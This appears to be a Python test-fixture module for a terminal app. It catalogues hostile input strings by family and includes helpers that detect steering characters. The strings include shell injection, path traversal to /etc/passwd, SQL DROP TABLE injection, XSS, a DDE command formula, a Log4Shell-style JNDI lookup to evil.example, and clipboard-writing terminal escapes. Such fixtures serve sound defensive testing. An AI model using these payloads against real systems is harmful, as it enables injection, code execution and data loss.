"""Texts that would be more than text to a terminal, a screen, a spreadsheet, a shell or a file system."""

import unicodedata
from collections.abc import Iterator
from typing import NamedTuple

# Stands at the end of each text, so that one sees whether all of it is shown.
END = "Zz"
# What a forged line begins with.
FORGED = "FORGED"


class Payload(NamedTuple):
    """One text, and the family it is of."""

    family: str
    text: str


_FAMILIES: dict[str, tuple[str, ...]] = {
    "markup": (
        "[@click=app.quit]pay[/]",
        "[@click=app.bell()]pay[/]",
        "[@mouse.down=app.quit]pay[/]",
        "[link=https://evil.example]pay[/link]",
        "[link=file:///etc/passwd]pay[/]",
        "[bold red on white]pay[/]",
        "[reverse]pay[/reverse]",
        "[on #ff0000]   [/]",
        "[$error]pay",
        "[/]",
        "[/b]",
        "[b",
        "[",
        "]",
        "[]",
        "[[",
        "[ERROR]",
        "[Q4] bonus",
        "[401(k)] match",
        "\\[b]pay[/b]",
        "[b]pay\\",
        "\\",
        ":skull:",
        "$plan ${plan}",
        "# Title\n* item `code` <b>",
    ),
    "escape sequence": (
        "\x1b[2J",
        "\x1b[31mred",
        "\x1b[1A\x1b[2K" + FORGED,
        "\x1b]0;title\x07",
        "\x1b]2;title\x1b\\",
        "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
        "\x1b]52;c;QUFB\x07",
        "\x1b]4;1;#ffffff\x07",
        "\x1b]1337;File=inline=1:QUFB\x07",
        '\x1bP$q"p\x1b\\',
        "\x1bP+q544e\x1b\\",
        "\x1b_apc\x1b\\",
        "\x1b^pm\x1b\\",
        "\x1bXsos\x1b\\",
        "\x1bc",
        "\x1b#8",
        "\x1b[6n",
        "\x1b[c",
        "\x1b[?1049h",
        "\x1b[?1003h",
        "\x1b[201~",
        "\x1b(0",
        "\x1b",
        "\x1b\x1b[",
        "\x9b2J",
        "\x9d52;c;QUFB\x9c",
        "\x90q\x9c",
        "\u00c2\x9b2J",  # as bytes of UTF-8 read one by one
    ),
    "control": tuple(f"a{chr(code)}b" for code in (*range(1, 0x20), 0x7F, *range(0x80, 0xA0))),
    "overwriting": (
        f"good\r{FORGED}",
        f"good\n{FORGED} $0.00",
        f"good\r\n{FORGED}",
        f"good\n\n\n{FORGED}",
        f"good\x0b{FORGED}",
        f"good\x85{FORGED}",
        f"good\u2028{FORGED}",
        f"good\u2029{FORGED}",
        "100.00\b\b\b\b\b\b9",
        "a\tb\t\tc",
    ),
    "turned around": (
        *(f"a{mark}00.1$ b" for mark in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"),
        "\u202e\u202d\u2067pay",
        "פלוני אלמוני",
        "مريم 100",
    ),
    "unseen": (
        *(f"a{mark}b" for mark in "\u200b\u200c\u200d\u2060\u2061\u2064\u206a\ufeff\u00ad\u180e\u034f\u17b4\ufff9"),
        *(f"a{mark}b" for mark in "\u3164\u115f\u1160\uffa0\u2800\u180b"),
        "\u3164",
        "\U000e0001\U000e0041\U000e007f",
        "\ue000\U000f0000",
        "\ufffe\U0010ffff",
        "\u00a0\u2003\u3000pay",
    ),
    "piled up": (
        "a" + "\u0301" * 50,
        "a" + "\u0301\u0488\u20dd" * 200,
        "\u0301\u0301\u0301\u0301\u0301\u0301pay",
        "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319a",
        "a" + "\ufe00" * 40,
        "a" + "".join(map(chr, range(0xE0100, 0xE0120))),
    ),
    "formula": (
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "\u00a0=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠A1",
        '=HYPERLINK("https://evil.example","pay")',
        "=cmd|'/c calc'!A0",
        "%0A=1+1",
    ),
    "page": (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '"><svg onload=alert(1)>',
        "javascript:alert(1)",
        "&lt;b&gt; &amp;",
        "<!-- -->",
        "]]>",
        "</title><b>",
    ),
    "template": (
        "%s %d %n",
        "{0} {1}",
        "{x.__class__.__mro__}",
        "{",
        "}",
        "{{7*7}}",
        "${jndi:ldap://evil.example}",
        "%(name)s",
    ),
    "query": ("'; DROP TABLE entry; --", '" OR 1=1 --', "') ; ATTACH 'x' AS y;", "%", "_", "*?", "NULL", "\\'"),
    "shell": (
        "$(touch pwned)",
        "`touch pwned`",
        "; touch pwned",
        "| cat",
        "&& true",
        "> out",
        "!!",
        "--help",
        "-rf",
        "$HOME ~",
        "'\"",
    ),
    "path": (
        "../../etc/passwd",
        "/etc/passwd",
        "..",
        ".",
        "a/b",
        "a\\b",
        "~",
        "~root/x",
        "CON",
        "nul.txt",
        "COM1",
        "trailing.",
        "trailing ",
        ".hidden",
        "C:\\x",
        "x" * 180,
        "é" * 150,
        "file:///etc/passwd",
    ),
    "wide": ("年金積立", "한국어 연금", "👩‍👩‍👧", "🏦💰", "❤️", "ﬀ㎏", "🇺🇸", "👍🏽", "ｗｉｄｅ", "a\u20ddb"),
    "notation": (
        '{"record": "void"}',
        '"',
        "\\u001b[2J",
        "\\n",
        "[backup]\nfolder = 'x'",
        "a = 1 # b",
        "null",
        "key: &x",
    ),
}

PAYLOADS: tuple[Payload, ...] = tuple(
    Payload(family, f"{text}{END}") for family, texts in _FAMILIES.items() for text in texts
)

# One or two of each family that matters most; with what a person sees of each, written out by hand.
CHOSEN: dict[str, str] = {
    f"[@click=app.quit]pay[/]{END}": f"[@click=app.quit]pay[/]{END}",
    f"[/]{END}": f"[/]{END}",
    f"\x1b]52;c;QUFB\x07{END}": f"\\x1b]52;c;QUFB\\x07{END}",
    f"\x9b2J{END}": f"\\x9b2J{END}",
    f"good\n{FORGED} $0.00{END}": f"good\\n{FORGED} $0.00{END}",
    f"good\r{FORGED}{END}": f"good\\r{FORGED}{END}",
    f"\u202e\u202d\u2067pay{END}": f"\\u202e\\u202d\\u2067pay{END}",
    f"\u3164{END}": f"\\u3164{END}",
    "\u0301\u0301\u0301\u0301\u0301\u0301pay" + END: "\u0301\u0301\u0301\u0301\\u0301\\u0301pay" + END,
    f"=1+1{END}": f"=1+1{END}",
    f"../../etc/passwd{END}": f"../../etc/passwd{END}",
    f"年金積立{END}": f"年金積立{END}",
}

# What no file can keep: refused, and shown written out in the refusal. As escapes of JSON.
REFUSED = ("\\u0000", "\\ud800", "\\udfff", "\\udc00\\ud800")


def steering(text: str) -> Iterator[str]:
    """The characters of a text that a terminal would obey, or that nobody would see; a new line is none."""
    marks = 0
    for char in text:
        category = unicodedata.category(char)
        marks = marks + 1 if category in ("Mn", "Me") else 0
        if char != "\n" and (category in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp") or char in _BLANK or marks > 4):
            yield char


# Letters and marks of Unicode that are drawn as nothing.
_BLANK = frozenset("\u034f\u115f\u1160\u17b4\u17b5\u180b\u180c\u180d\u2800\u3164\uffa0")


def columns(text: str) -> int:
    """How many columns of a terminal a text takes: two for what East Asia writes wide, none for a mark on a letter."""
    marks = sum(unicodedata.category(char) in ("Mn", "Me") for char in text)
    return len(text) - marks + sum(unicodedata.east_asian_width(char) in "WF" for char in text)
